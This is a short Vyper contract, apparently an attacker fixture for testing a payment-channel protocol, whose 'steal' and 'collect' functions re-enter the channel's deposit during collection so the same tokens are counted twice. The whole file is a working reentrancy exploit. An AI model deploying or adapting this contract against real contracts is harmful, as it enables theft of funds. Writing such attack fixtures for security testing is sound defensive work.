# pragma version 0.4.3
"""
@title A collector that deposits again while it collects, so that the same tokens would be counted twice
"""

from ethereum.ercs import IERC20

struct ChannelConfig:
    payer: address
    payerAuthorizer: address
    receiver: address
    receiverAuthorizer: address
    token: address
    withdrawDelay: uint40
    salt: bytes32

interface Channels:
    def deposit(config: ChannelConfig, amount: uint128, collector: address, data: Bytes[1024]): nonpayable

inner: Bytes[4096]


@external
def steal(channels: address, outer: ChannelConfig, amount: uint128, inner: Bytes[4096]):
    self.inner = inner
    extcall IERC20(outer.token).approve(channels, max_value(uint256))
    extcall Channels(channels).deposit(outer, amount, self, b"")


@external
def collect(payer: address, token: address, amount: uint256, channelId: bytes32, data: Bytes[1024]):
    raw_call(msg.sender, self.inner)
